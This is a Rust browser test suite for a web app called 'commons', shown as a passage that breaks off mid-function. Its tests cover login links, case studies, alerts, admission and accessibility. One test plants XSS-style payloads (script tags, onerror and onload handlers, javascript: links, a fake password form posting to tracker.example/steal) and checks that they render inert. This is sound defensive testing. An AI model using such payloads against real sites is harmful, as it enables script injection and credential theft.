//! The staff's web app in a real browser (issue 10, items 5 and 6): Debian's Chromium,
//! driven over WebDriver, clicks through the pages of real `commons` nodes the way a
//! member organization's staff would. Each test owns its nodes (a `commons devnet`, and
//! for membership a new org's node), its chromedriver and Chromium, and stops them when
//! it ends; every wait has a deadline and says what it waited for.
//!
//! | flow | test |
//! |---|---|
//! | log in with the one-time link; a second use is refused | [`login_link_lets_in_once`] |
//! | a case study written at A (form, preview, publish) is found in B's library and search | [`case_study_published_at_a_is_found_at_b`] |
//! | an alert raised at A notifies B's open app (once asked for), is answered at B, which notifies A's, and A counts B as responded (its page and its home) | [`alert_raised_at_a_is_answered_at_b`] |
//! | an applicant applies through its app; two founders admit it through theirs | [`applicant_is_admitted_by_two_founders`] |
//! | a hostile member's case study renders inert in another member's app | [`hostile_case_study_renders_inert`] |
//! | a case study edited at A with a photo and a report attached: the new version, the photo inline, the history | [`case_study_edited_with_files_attached`] |
//! | axe-core on every page (redaction requests on a case study, a campaign update, an alert, a response to it and a profile among them, and a retracted alert's responses); screenshots at desktop and phone widths, in Arabic, and a form with JavaScript off | [`every_page_is_accessible_and_photographed`] |
//!
//! Without a browser these tests skip, saying so; under `CI=true` they fail instead.
//! Screenshots go to `target/web-screenshots/<flow>/` (each test prints its folder).
//! The tests take turns ([`one_at_a_time`]): each runs a network of nodes and a
//! browser, and two at once on a two-core machine only make each slower.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::{Mutex, MutexGuard};
use std::time::Duration;

use commons_tests::TestNode;
use commons_tests::browser::{
    Applicant, AxeViolation, Browser, BrowserOptions, BrowserTools, DESKTOP_WIDTH, Devnet,
    DevnetNode, PHONE_WIDTH, commons, login_url, screenshot_dir, wait_until_held,
};
use serde_json::Value;

/// How long a record published at one node may take to show in another node's app.
const SYNC_DEADLINE: Duration = Duration::from_secs(60);
/// How long an admission may take to reach the admitted org's own node (at its next
/// greeting of a member, then a full sync).
const ADMISSION_DEADLINE: Duration = Duration::from_secs(90);
/// The devnet every test runs: three founders, so that admission takes two votes.
const DEVNET_NODES: u32 = 3;
/// Sample records in the devnet: a campaign with updates, an alert with responses,
/// case studies; enough for every page to have something to show.
const DEVNET_RECORDS: u32 = 20;

/// Words of the English catalog (web/i18n/en) that the flows look for.
mod words {
    pub const LOG_OUT: &str = "Log out";
    pub const LINK_USED: &str = "This link has already been used or has expired.";
    pub const HOW_TO_OPEN: &str = "To open the app, run this command";

    pub const CASE_TITLE: &str = "Title";
    pub const CASE_SUMMARY: &str = "Summary (optional)";
    pub const CASE_BODY: &str = "The case study";
    pub const CASE_PUBLIC: &str = "Public";
    pub const PREVIEW: &str = "Preview";
    pub const PREVIEW_NOTE: &str = "Preview: this is how members will see it.";
    pub const PUBLISH: &str = "Publish";
    pub const PUBLISHED: &str = "Your case study was published.";
    pub const SEARCH: &str = "Search";
    pub const SIGNATURE_VALID: &str = "Valid";
    pub const EDIT: &str = "Edit";
    pub const EDIT_TITLE: &str = "Edit the case study";
    pub const ATTACH_FILES: &str = "Attach files";
    pub const UPLOAD_FILES: &str = "Upload the chosen files";
    pub const PUBLISH_VERSION: &str = "Publish the new version";
    pub const VERSION_PUBLISHED: &str = "The new version was published.";

    pub const ALERT_URGENT: &str = "Urgent";
    pub const ALERT_TITLE: &str = "Title";
    pub const ALERT_REGION: &str = "Region";
    pub const ALERT_BODY: &str = "What happened";
    pub const ALERT_ACTION: &str = "Action requested";
    pub const RAISE: &str = "Raise the alert";
    pub const RAISED: &str = "The alert was raised and sent to the network.";
    pub const ACTING: &str = "Acting";
    pub const NOTE: &str = "Note (optional)";
    pub const RESPOND: &str = "Send our response";
    pub const RESPONDED: &str = "Our response was sent to the network.";
    pub const ONE_OF_TWO_RESPONDED: &str = "1 of 2 member organizations responded";
    pub const NOTIFY_ME: &str = "Notify me of new alerts";
    pub const NOTIFY_ON: &str = "This browser will show a notification when a new solidarity alert arrives or another organization answers one of ours, while Commons is open in it.";
    pub const NEW_ALERT: &str = "A new solidarity alert arrived.";
    pub const NEW_ANSWER: &str = "Another organization answered our alert.";

    pub const NOT_A_MEMBER: &str = "Your organization is not a member yet";
    pub const APPLY: &str = "Apply to join";
    pub const STATEMENT: &str = "Why your organization asks to join";
    pub const SEND_APPLICATION: &str = "Send the application";
    pub const APPLIED: &str = "Your application was published.";
    pub const REVIEW: &str = "Read the application and vote";
    pub const ENDORSE: &str = "Endorse admission";
    pub const ENDORSED: &str = "Your endorsement was published.";
    pub const ENDORSED_BY: &str = "Endorsed by:";

    pub const CHECK_PROFILE: &str = "Check our profile first";
    pub const NAME: &str = "Name";
    pub const COUNTRY: &str = "Country";
    pub const DESCRIPTION: &str = "What the organization does";
    pub const SAVE_PROFILE: &str = "Publish the profile";
    pub const PROFILE_SAVED: &str = "Your profile was published.";
    pub const LANGUAGE: &str = "Language";
    pub const CHANGE_LANGUAGE: &str = "Change";
}

/// A 2×1 PNG (one green, one white pixel): a photo small enough to write inline.
const SMALL_PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x7b, 0x40, 0xe8,
    0xdd, 0x00, 0x00, 0x00, 0x0f, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x90, 0x8d, 0xf1, 0xfd,
    0xff, 0xff, 0x3f, 0x00, 0x09, 0xaf, 0x03, 0xc4, 0x9a, 0xf2, 0x17, 0x4d, 0x00, 0x00, 0x00, 0x00,
    0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// The lock the tests take turns on; a test that failed does not stop the others.
fn one_at_a_time() -> MutexGuard<'static, ()> {
    static TURN: Mutex<()> = Mutex::new(());
    TURN.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
}

/// A browser logged in to the app of the node in `data_dir` with a fresh one-time link,
/// on `page`.
fn log_in(
    name: &str,
    tools: &BrowserTools,
    options: &BrowserOptions,
    data_dir: &Path,
    page: &str,
) -> Browser {
    let browser = Browser::start(name, tools, options);
    browser.goto(&login_url(data_dir, Some(page)));
    let wanted = page.to_owned();
    browser.wait_until(&format!("the login link to land on {page}"), |browser| {
        (browser.path() == wanted).then_some(())
    });
    browser.wait_loaded();
    browser
}

/// [`log_in`] to a devnet node with the default options.
fn log_in_at(name: &str, tools: &BrowserTools, node: &DevnetNode, page: &str) -> Browser {
    log_in(
        name,
        tools,
        &BrowserOptions::default(),
        &node.data_dir,
        page,
    )
}

/// Opens the app's `path` (same origin as where the browser is) and waits for it.
fn open(browser: &Browser, path: &str) {
    let url = format!("{}{path}", browser.origin());
    browser.goto(&url);
    browser.wait_loaded();
}

/// The first link in the page's main content whose path starts with `prefix` and
/// goes further (`/cases/` finds `/cases/rec_…`, not `/cases/new`).
fn first_link(browser: &Browser, prefix: &str) -> Option<String> {
    let found = browser.execute(
        "const prefix = arguments[0];
         const main = document.querySelector('main') || document.body;
         for (const a of main.querySelectorAll('a[href]')) {
           const href = a.getAttribute('href');
           if (href.startsWith(prefix) && /^[a-z]+_[0-9a-f]+$/.test(href.slice(prefix.length))) {
             return href;
           }
         }
         return null;",
        vec![Value::from(prefix)],
    );
    found.as_str().map(str::to_owned)
}

/// Screenshots of the page at desktop and phone widths, `<dir>/<name>-desktop.png`
/// and `<name>-phone.png`. A page wider than the screen (it scrolls sideways) is
/// reported, not failed: it is for the page's owner to judge from the screenshot.
fn photograph(browser: &Browser, dir: &Path, name: &str) {
    for (width, phone, suffix) in [
        (DESKTOP_WIDTH, false, "desktop"),
        (PHONE_WIDTH, true, "phone"),
    ] {
        let laid_out = browser.screenshot(&dir.join(format!("{name}-{suffix}.png")), width, phone);
        if laid_out > width {
            eprintln!(
                "layout: {name} ({}) is {laid_out} px wide on a {width} px {suffix} screen: it scrolls sideways",
                browser.path()
            );
        }
    }
}

/// Fails unless the first element `selector` finds, English text inside a
/// right-to-left page, reads left to right: its first line starts at the left edge of
/// its panel's content, neither right-aligned with the full stop at its start nor set
/// in a box pushed towards the middle.
fn assert_reads_left_to_right(browser: &Browser, selector: &str, what: &str) {
    let offset = browser.execute(
        "const block = document.querySelector(arguments[0]);
         if (!block) { return null; }
         const panel = block.closest('.panel') || block.parentElement;
         const style = getComputedStyle(panel);
         const content = panel.getBoundingClientRect().left
             + parseFloat(style.borderLeftWidth) + parseFloat(style.paddingLeft);
         const text = document.createRange();
         text.selectNodeContents(block);
         return text.getClientRects()[0].left - content;",
        vec![Value::from(selector)],
    );
    let Some(offset) = offset.as_f64() else {
        panic!("{what} ({selector}) is not on {}", browser.path());
    };
    assert!(
        offset < 2.0,
        "{what} ({selector}) on {} starts {offset} px from its left edge: English inside \
         an Arabic page must read left to right",
        browser.path()
    );
}

/// What axe found on each page: the serious and critical findings, for one failure
/// message naming every page, rule and element.
#[derive(Debug, Default)]
struct AxeReport {
    pages: usize,
    findings: Vec<(String, AxeViolation)>,
}

impl AxeReport {
    /// Runs axe on the page the browser shows, which `name` names.
    fn check(&mut self, browser: &Browser, name: &str) {
        self.pages += 1;
        let path = browser.path();
        for violation in browser.axe() {
            if violation.is_serious() {
                self.findings.push((format!("{name} ({path})"), violation));
            } else {
                // Not a failure, but worth the page owner's look.
                eprintln!(
                    "axe, {name} ({path}): {} [{}] {} on {} element(s)",
                    violation.rule,
                    violation.impact,
                    violation.help,
                    violation.nodes.len()
                );
            }
        }
    }

    /// Fails, listing every finding, if there is any.
    fn assert_clean(&self) {
        if self.findings.is_empty() {
            eprintln!(
                "axe: no serious or critical violation on {} pages",
                self.pages
            );
            return;
        }
        let mut message = format!(
            "axe found {} serious or critical violations:\n",
            self.findings.len()
        );
        for (page, violation) in &self.findings {
            message.push_str(&format!(
                "- {page}: {} [{}] {}\n",
                violation.rule, violation.impact, violation.help
            ));
            for node in violation.nodes.iter().take(5) {
                message.push_str(&format!("    {node}\n"));
            }
            if violation.nodes.len() > 5 {
                message.push_str(&format!("    … and {} more\n", violation.nodes.len() - 5));
            }
        }
        panic!("{message}");
    }
}

/// The screenshot folder of `flow`, announced.
fn shots(flow: &str) -> PathBuf {
    let dir = screenshot_dir(flow);
    eprintln!("screenshots of {flow}: {}", dir.display());
    dir
}

/// Following `commons open`'s link lets a person in (a session cookie the page's
/// scripts cannot read); the same link a second time, in another browser, is refused
/// with the page that says to run `commons open` again; and that browser has no way in.
#[test]
fn login_link_lets_in_once() {
    let Some(tools) = BrowserTools::for_test("login_link_lets_in_once") else {
        return;
    };
    let _turn = one_at_a_time();
    let node = TestNode::start();
    let url = login_url(node.data_dir(), Some("/members"));

    let staff = Browser::start("staff", &tools, &BrowserOptions::default());
    staff.goto(&url);
    // The link's page sends the browser on (a same-site step) to the page it named.
    staff.wait_until("the link to land on /members", |browser| {
        (browser.path() == "/members").then_some(())
    });
    staff.wait_for_text(words::LOG_OUT);
    let cookies = staff.execute("return document.cookie;", vec![]);
    assert!(
        !cookies.as_str().unwrap_or_default().contains("session"),
        "the session cookie must be HttpOnly, but the page's scripts read {cookies}"
    );
    open(&staff, "/");
    staff.wait_for_text(words::LOG_OUT);

    let stranger = Browser::start("stranger", &tools, &BrowserOptions::default());
    stranger.goto(&url);
    stranger.wait_for_text(words::LINK_USED);
    assert!(
        !stranger.text().contains(words::LOG_OUT),
        "a used link must not let a second browser in"
    );
    open(&stranger, "/cases");
    stranger.wait_until(
        "a browser without a session to be sent to /welcome",
        |browser| (browser.path() == "/welcome").then_some(()),
    );
    stranger.wait_for_text(words::HOW_TO_OPEN);

    // The person who came in can log out, and is then out.
    staff.press(words::LOG_OUT);
    staff.wait_until("logging out to lead to /welcome", |browser| {
        (browser.path() == "/welcome").then_some(())
    });
    open(&staff, "/");
    staff.wait_until("a logged-out browser to be sent to /welcome", |browser| {
        (browser.path() == "/welcome").then_some(())
    });
}

/// A person at A writes a case study through /cases/new (the form, its preview, then
/// publish); a person at B finds it in B's library once it has synced, and by B's
/// search on the start of a word of its body and another form of a word of its summary,
/// and opens it.
#[test]
fn case_study_published_at_a_is_found_at_b() {
    let Some(tools) = BrowserTools::for_test("case_study_published_at_a_is_found_at_b") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("case-study");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
    let title = "Mobile legal clinics at the river settlements";
    // A word no sample record uses, to search for.
    let rare = "Quillanbar";

    let at_a = log_in_at("A", &tools, a, "/cases/new");
    at_a.fill(words::CASE_TITLE, title);
    at_a.fill(
        words::CASE_SUMMARY,
        "Volunteer lawyers held weekly clinics by boat; eviction notices fell by half.",
    );
    at_a.fill(
        words::CASE_BODY,
        &format!(
            "## What we did\n\nEvery Saturday a boat took two volunteer lawyers to the {rare} \
             settlements.\n\n- Residents brought their notices\n- We filed **objections** the same week\n"
        ),
    );
    at_a.tick(words::CASE_PUBLIC);
    at_a.press(words::PREVIEW);
    at_a.wait_for_text(words::PREVIEW_NOTE);
    at_a.wait_for_text("What we did");
    let preview = at_a.text();
    assert!(
        preview.contains(title) && preview.contains("objections"),
        "the preview shows the title and the rendered body: {preview}"
    );
    photograph(&at_a, &dir, "a-cases-new-preview");
    at_a.press(words::PUBLISH);
    at_a.wait_for_text(words::PUBLISHED);
    assert!(
        at_a.path().starts_with("/cases/rec_"),
        "publishing leads to the case study's page, not {}",
        at_a.path()
    );
    at_a.wait_for_text(title);
    photograph(&at_a, &dir, "a-case-published");

    let at_b = log_in_at("B", &tools, b, "/cases");
    at_b.reload_until_text(title, SYNC_DEADLINE);
    photograph(&at_b, &dir, "b-cases-library");
    // The start of one word, and another form of a word of the summary ("eviction"):
    // the search index's two rules at once.
    at_b.fill(
        words::SEARCH,
        &format!("{} evictions", &rare.to_lowercase()[..6]),
    );
    at_b.press(words::SEARCH);
    at_b.wait_until("the search to be in the address", |browser| {
        browser.path().contains("q=").then_some(())
    });
    at_b.wait_for_text(title);
    photograph(&at_b, &dir, "b-cases-search");
    at_b.follow(title);
    at_b.wait_for_text("Every Saturday a boat took two volunteer lawyers");
    at_b.wait_for_text(&a.name);
    at_b.wait_for_text(words::SIGNATURE_VALID);
    photograph(&at_b, &dir, "b-case-page");
}

/// A person at A corrects one of its org's case studies (written through the form
/// first): Edit, a new title and text, a photo and a report attached and uploaded, then
/// published. The page shows the new version, "edited", the photo inline (decoded by
/// the browser, from the app itself) and the report to download; the history shows
/// what changed, line by line.
#[test]
fn case_study_edited_with_files_attached() {
    let Some(tools) = BrowserTools::for_test("case_study_edited_with_files_attached") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("edit-attach");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let a = &devnet.nodes[0];
    let first_title = "Paralegals at the market square";
    let new_title = "Paralegals at the market square, a year on";

    let at_a = log_in_at("A", &tools, a, "/cases/new");
    at_a.fill(words::CASE_TITLE, first_title);
    at_a.fill(
        words::CASE_BODY,
        "Every Thursday two paralegals sat at a table in the market.\n\nThey answered 40 questions a day.",
    );
    at_a.press(words::PUBLISH);
    at_a.wait_for_text(words::PUBLISHED);
    let case_path = at_a.path();
    let case_path = case_path.split('?').next().unwrap_or_default().to_owned();

    at_a.follow(words::EDIT);
    at_a.wait_for_text(words::EDIT_TITLE);
    at_a.fill(words::CASE_TITLE, new_title);
    at_a.fill(
        words::CASE_BODY,
        "Every Thursday two paralegals sat at a table in the market.\n\nThey answered 65 questions a day, and trained four volunteers.",
    );
    let files = dir.join("files");
    fs::create_dir_all(&files).expect("a folder for the files");
    let photo = files.join("market-table.png");
    fs::write(&photo, SMALL_PNG).expect("the photo written");
    let report = files.join("year-report.pdf");
    fs::write(&report, b"%PDF-1.4\n% a short report of the year\n").expect("the report written");
    at_a.attach(words::ATTACH_FILES, &[&photo, &report]);
    at_a.press(words::UPLOAD_FILES);
    at_a.wait_for_text("market-table.png");
    at_a.wait_for_text("year-report.pdf");
    photograph(&at_a, &dir, "a-case-edit-with-files");
    at_a.press(words::PUBLISH_VERSION);
    at_a.wait_for_text(words::VERSION_PUBLISHED);
    at_a.wait_for_text(new_title);
    assert!(
        at_a.path().starts_with(&case_path),
        "the edit leads back to the case study, not {}",
        at_a.path()
    );
    let page = at_a.text();
    assert!(
        page.contains("65 questions") && !page.contains("40 questions"),
        "{page}"
    );
    assert!(
        page.contains("edited"),
        "the page says it was edited: {page}"
    );
    assert!(page.contains("year-report.pdf"));
    // The photo is shown inline, decoded by the browser, from the app's own address.
    let width = at_a.wait_until("the photo to be decoded", |browser| {
        let width = browser.execute(
            "const image = document.querySelector('img[src*=\"/files/\"]'); \
             return image && image.complete ? image.naturalWidth : 0;",
            Vec::new(),
        );
        width.as_u64().filter(|width| *width > 0)
    });
    assert_eq!(width, 2, "the 2-pixel photo");
    photograph(&at_a, &dir, "a-case-edited");

    at_a.follow("history of 2 versions");
    at_a.wait_for_text("Version 2");
    let history = at_a.text();
    assert!(history.contains("First version"), "{history}");
    assert!(history.contains("65 questions") && history.contains("40 questions"));
    assert!(
        history.contains("market-table.png"),
        "the files added are named"
    );
    photograph(&at_a, &dir, "a-case-history");
}

/// A person at A raises an urgent alert through /alerts/new; a person at B opens it
/// once it has synced and answers "acting" with a note; A's alert page then counts B
/// among those who responded, with its answer and note.
#[test]
fn alert_raised_at_a_is_answered_at_b() {
    let Some(tools) = BrowserTools::for_test("alert_raised_at_a_is_answered_at_b") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("alert");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
    let title = "Community radio station raided in the delta district";
    let note = "We wrote to the district governor this morning.";

    // B's staff ask for notifications before A raises an alert.
    let at_b = log_in_at("B", &tools, b, "/");
    ask_for_notifications(&at_b);

    let at_a = log_in_at("A", &tools, a, "/alerts/new");
    at_a.tick(words::ALERT_URGENT);
    at_a.fill(words::ALERT_TITLE, title);
    at_a.fill(words::ALERT_REGION, "Delta district");
    at_a.fill(
        words::ALERT_BODY,
        "Police took the station's transmitter and two laptops; nobody was arrested.",
    );
    at_a.fill(
        words::ALERT_ACTION,
        "Write to the district governor asking for the equipment back.",
    );
    at_a.press(words::RAISE);
    at_a.wait_for_text(words::RAISED);
    let alert_path = at_a.path();
    assert!(
        alert_path.starts_with("/alerts/rec_"),
        "raising leads to the alert's page, not {alert_path}"
    );
    let alert_path = alert_path.split('?').next().unwrap_or_default().to_owned();

    let alert_id = alert_path.trim_start_matches("/alerts/").to_owned();
    let shown = notification(&at_b, words::NEW_ALERT, title);
    assert_eq!(shown["tag"], alert_id.as_str(), "{shown}");
    photograph(&at_b, &dir, "b-notified");
    // A's staff, on their alert's page, ask for notifications too: B's answer wakes them.
    ask_for_notifications(&at_a);

    open(&at_b, "/alerts");
    at_b.reload_until_text(title, SYNC_DEADLINE);
    photograph(&at_b, &dir, "b-alerts");
    at_b.follow(title);
    at_b.tick(words::ACTING);
    at_b.fill(words::NOTE, note);
    photograph(&at_b, &dir, "b-alert-responding");
    at_b.press(words::RESPOND);
    at_b.wait_for_text(words::RESPONDED);
    photograph(&at_b, &dir, "b-alert-responded");

    let shown = notification(&at_a, words::NEW_ANSWER, title);
    assert_ne!(
        shown["tag"],
        alert_id.as_str(),
        "the answer's own id: {shown}"
    );
    open(&at_a, &alert_path);
    at_a.reload_until_text(note, SYNC_DEADLINE);
    let row = at_a.execute(
        "for (const row of document.querySelectorAll('.alerts-responses > li')) {
           if (row.innerText.includes(arguments[0])) { return row.innerText; }
         }
         return null;",
        vec![Value::from(b.name.as_str())],
    );
    let row = row.as_str().unwrap_or_default();
    assert!(
        row.contains(words::ACTING) && row.contains(note),
        "A's alert page lists B ({}) as acting with its note; its item: {row:?}",
        b.name
    );
    photograph(&at_a, &dir, "a-alert-responses");

    // A's home page: our recent alerts, each with how many members have responded
    // (B has; C, the third founder, not yet).
    open(&at_a, "/");
    let ours = at_a.execute(
        "const section = document.getElementById('home-ours').closest('section');
         for (const item of section.querySelectorAll('li')) {
           if (item.innerText.includes(arguments[0])) { return item.innerText; }
         }
         return null;",
        vec![Value::from(title)],
    );
    let ours = ours.as_str().unwrap_or_default();
    assert!(
        ours.contains(words::ONE_OF_TWO_RESPONDED),
        "A's home lists its alert with its count; its item: {ours:?}"
    );
    photograph(&at_a, &dir, "a-home");
}

/// Presses "Notify me of new alerts" on `browser`'s page. The browser's own permission
/// prompt cannot be answered over WebDriver, so the page's Notification is first
/// replaced by one that grants when asked and records what it shows (in `window.shown`);
/// everything else (the button, the event stream, app.js) is the app's own.
fn ask_for_notifications(browser: &Browser) {
    browser.execute(
        "window.shown = [];
         function Recorder(title, options) {
           window.shown.push({ title: title, body: options.body, tag: options.tag });
           this.addEventListener = function () {};
           this.close = function () {};
         }
         Recorder.permission = 'default';
         Recorder.requestPermission = function () {
           Recorder.permission = 'granted';
           return Promise.resolve('granted');
         };
         window.Notification = Recorder;",
        vec![],
    );
    browser.click(&browser.button(words::NOTIFY_ME));
    browser.wait_for_text(words::NOTIFY_ON);
}

/// Waits until `browser`'s page has shown a notification titled `heading` about the
/// alert `title`, and returns it (`title`, `body`, `tag`).
fn notification(browser: &Browser, heading: &str, title: &str) -> Value {
    browser.wait_until(
        &format!("a notification {heading:?} about {title:?}"),
        |browser| {
            let shown = browser.execute("return window.shown;", vec![]);
            shown.as_array().and_then(|shown| {
                shown
                    .iter()
                    .find(|each| each["title"] == heading && each["body"] == title)
                    .cloned()
            })
        },
    )
}

/// A new org (`commons init`, `network join` of the devnet's charter, `node run`
/// dialing two founders) applies through its own app; two founders each open the
/// application in their app and endorse it through the vote confirmation page; then
/// the applicant's app shows its org as one of the network's four members.
///
/// Two votes suffice: the devnet's charter is founded by three orgs with the founding
/// majority as its admission threshold (`founding_majority`, 2/3 of the members), and
/// 2/3 of three members is two endorsements.
#[test]
fn applicant_is_admitted_by_two_founders() {
    let Some(tools) = BrowserTools::for_test("applicant_is_admitted_by_two_founders") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("membership");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
    let name = "Riverbank Tenants' Defence Forum";
    let applicant = Applicant::start(name, &devnet.charter(), &[a, b]);
    let mut axe = AxeReport::default();

    let at_applicant = log_in(
        "applicant",
        &tools,
        &BrowserOptions::default(),
        applicant.data_dir(),
        "/members",
    );
    at_applicant.wait_for_text(words::NOT_A_MEMBER);
    axe.check(&at_applicant, "members, not yet a member");
    photograph(&at_applicant, &dir, "applicant-members");
    // The page's advice: check the profile first, so that members see who asks (an
    // application alone shows them only an org id).
    at_applicant.follow(words::CHECK_PROFILE);
    at_applicant.fill(words::NAME, name);
    at_applicant.fill(words::COUNTRY, "Kenya");
    at_applicant.press(words::SAVE_PROFILE);
    at_applicant.wait_for_text(words::PROFILE_SAVED);
    open(&at_applicant, "/members");
    at_applicant.follow(words::APPLY);
    axe.check(&at_applicant, "apply");
    at_applicant.fill(
        words::STATEMENT,
        "We defend tenants of the riverbank settlements in court and want to share our case files.",
    );
    photograph(&at_applicant, &dir, "applicant-apply");
    at_applicant.press(words::SEND_APPLICATION);
    at_applicant.wait_for_text(words::APPLIED);
    photograph(&at_applicant, &dir, "applicant-applied");

    for (index, founder) in [a, b].into_iter().enumerate() {
        let at_founder = log_in_at(&format!("founder {index}"), &tools, founder, "/members");
        at_founder.reload_until_text(name, SYNC_DEADLINE);
        if index == 1 {
            // B's endorsement is the one that decides once B holds A's: wait for it, so
            // that the page says so.
            let org_path = format!("/members/{}", applicant.org_id());
            open(&at_founder, &org_path);
            at_founder.reload_until_text(words::ENDORSED_BY, SYNC_DEADLINE);
            open(&at_founder, "/members");
        }
        photograph(&at_founder, &dir, &format!("founder{index}-members"));
        at_founder.follow(words::REVIEW);
        at_founder.wait_for_text(name);
        photograph(&at_founder, &dir, &format!("founder{index}-application"));
        axe.check(&at_founder, "an applicant's page");
        at_founder.follow(words::ENDORSE);
        // The confirmation page names the consequence before anything is signed.
        at_founder.wait_for_text("lets its devices publish to the whole network");
        axe.check(&at_founder, "vote confirmation (admit)");
        photograph(&at_founder, &dir, &format!("founder{index}-vote-confirm"));
        at_founder.press(words::ENDORSE);
        if index == 0 {
            at_founder.wait_for_text(words::ENDORSED);
        } else {
            at_founder.wait_for_text("is now a member of the network");
        }
        photograph(&at_founder, &dir, &format!("founder{index}-voted"));
    }

    open(&at_applicant, "/members");
    at_applicant.reload_until_text(
        "The network has 4 member organizations.",
        ADMISSION_DEADLINE,
    );
    assert!(
        !at_applicant.text().contains(words::NOT_A_MEMBER),
        "once admitted, the applicant's app no longer says it is not a member"
    );
    photograph(&at_applicant, &dir, "applicant-admitted");
    axe.assert_clean();
}

/// A hostile member publishes (through node C's API, as any member's software could)
/// a case study with a script, `javascript:` links, an image whose `onerror` runs
/// script, outside images, a frame and a style. Opened in node A's app, on the home
/// page and on its own page: no script of it ran, no element carries an event handler,
/// no link runs script, and the browser fetched nothing from outside the app.
#[test]
fn hostile_case_study_renders_inert() {
    let Some(tools) = BrowserTools::for_test("hostile_case_study_renders_inert") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("hostile");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let (a, c) = (&devnet.nodes[0], &devnet.nodes[2]);
    let title = "Findings from the dam displacement hearings";
    let body = r#"Ordinary words of the report stay readable.

<script>document.title = 'pwned'; window.__pwned = 'script';</script>

<img src="https://tracker.example/x.png" alt="a tracking pixel">

<img src="x" onerror="window.__pwned = 'onerror'; document.title = 'pwned'">

![another pixel](https://tracker.example/y.png)

[Click for the full report](javascript:window.__pwned='link')

<a href="javascript:window.__pwned='anchor'">Open the annex</a>

<a href="JaVaScRiPt:window.__pwned='mixed-case'">Open the second annex</a>

<svg onload="window.__pwned = 'svg'"><circle r="5"></circle></svg>

<iframe src="https://tracker.example/frame"></iframe>

<style>body { background: url(https://tracker.example/bg.png); }</style>

<form action="https://tracker.example/steal"><input name="password"><button>Log in again</button></form>

Last paragraph, also readable."#;
    let published = c
        .api
        .publish_practice(title, body)
        .expect("node C answers the publish call");
    assert_eq!(published.status, 201, "publishing at C: {}", published.body);

    let at_a = log_in_at("A", &tools, a, "/cases");
    at_a.reload_until_text(title, SYNC_DEADLINE);
    let case_path = first_link(&at_a, "/cases/").expect("the library links the case study");
    at_a.follow(title);
    at_a.wait_for_text("Ordinary words of the report stay readable.");
    at_a.wait_for_text("Last paragraph, also readable.");
    // What is left of the script links is clicked, as a reader would: nothing runs.
    for words in ["Click for the full report", "Open the annex"] {
        for element in at_a.elements_with_text(words) {
            at_a.click(&element);
        }
    }
    assert_inert(&at_a, "the case study, after clicking its links");
    for page in ["/", &case_path] {
        open(&at_a, page);
        assert_inert(&at_a, page);
    }
    photograph(&at_a, &dir, "a-hostile-case");
}

/// Checks that nothing hostile happened on the page the browser shows.
fn assert_inert(browser: &Browser, page: &str) {
    let pwned = browser.execute(
        "return window.__pwned === undefined ? null : String(window.__pwned);",
        vec![],
    );
    assert!(pwned.is_null(), "{page}: hostile script ran ({pwned})");
    let title = browser.title();
    assert!(
        !title.contains("pwned"),
        "{page}: hostile script changed the title to {title:?}"
    );
    let handlers = browser.execute(
        "const found = [];
         for (const el of document.querySelectorAll('*')) {
           for (const attr of el.attributes) {
             if (attr.name.toLowerCase().startsWith('on')) { found.push(el.outerHTML.slice(0, 160)); }
           }
         }
         return found;",
        vec![],
    );
    assert_eq!(
        handlers.as_array().map_or(0, Vec::len),
        0,
        "{page}: elements with event handlers: {handlers}"
    );
    let script_links = browser.execute(
        "return [...document.querySelectorAll('[href],[src],[action],[formaction]')]
           .map(el => el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action') || el.getAttribute('formaction') || '')
           .filter(url => url.replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase().startsWith('javascript:'));",
        vec![],
    );
    assert_eq!(
        script_links.as_array().map_or(0, Vec::len),
        0,
        "{page}: javascript: addresses: {script_links}"
    );
    let origin = browser.origin();
    let outside: Vec<String> = browser
        .resources()
        .into_iter()
        .filter(|url| !url.starts_with(&format!("{origin}/")))
        .collect();
    assert!(
        outside.is_empty(),
        "{page}: the browser fetched from outside the app ({origin}): {outside:?}"
    );
    let loaders = browser.execute(
        "return [...document.querySelectorAll('main img, main iframe, main object, main embed, main svg, main form[action^=\"http\"], main style, main script')]
           .map(el => el.outerHTML.slice(0, 160));",
        vec![],
    );
    assert_eq!(
        loaders.as_array().map_or(0, Vec::len),
        0,
        "{page}: the case study kept elements that load or run things: {loaders}"
    );
}

/// Publishes with `commons --json publish ARGS…` at the node of `data_dir`; the new
/// record's id.
fn published(data_dir: &Path, args: &[&str]) -> String {
    let mut all = vec!["--json", "publish"];
    all.extend_from_slice(args);
    let answer: Value =
        serde_json::from_str(&commons(data_dir, &all)).expect("publish answers JSON");
    answer["id"].as_str().expect("an id").to_owned()
}

/// Once the node of `data_dir` holds `id` (`what`, for the failure), asks there to
/// redact it with `reason`.
fn redaction_requested_at(data_dir: &Path, id: &str, what: &str, reason: &str) {
    wait_until_held(data_dir, id, what, SYNC_DEADLINE);
    commons(data_dir, &["redactions", "request", id, "--reason", reason]);
}

/// The id of the newest profile `node`'s org published, as its own node lists it.
fn newest_profile_of(node: &DevnetNode) -> String {
    let org = node.org_id();
    let listed: Value = serde_json::from_str(&commons(
        &node.data_dir,
        &[
